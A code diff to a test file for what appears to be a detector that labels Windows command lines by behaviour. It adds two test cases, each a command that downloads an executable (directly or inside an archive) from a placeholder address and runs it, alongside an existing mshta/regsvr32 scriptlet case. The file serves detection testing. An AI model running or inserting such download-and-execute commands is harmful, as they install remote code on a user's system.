@@ -23,6 +23,16 @@ describe("judge", () => {
       `mshta vbscript:CreateObject("Wscript.Shell").Run("regsvr32 /s /i:http://203.0.113.7/a.sct scrobj.dll",0,true)(window.close)`,
       "windows/regsvr32/scriptlet",
     ],
+    [
+      "who runs what another has fetched",
+      "cmd /c curl -o %TEMP%\\a.exe http://203.0.113.7/a.exe & start %TEMP%\\a.exe",
+      "windows/cmd/fetched-program",
+    ],
+    [
+      "who runs what comes out of an archive that another has fetched",
+      "cmd /c curl -o a.zip http://203.0.113.7/a.zip & tar -xf a.zip & start a.exe",
+      "windows/cmd/fetched-program",
+    ],
   ])("tells of %s", (_, line, behaviour) => {
     expect(judged(line)).toBe(behaviour);
   });
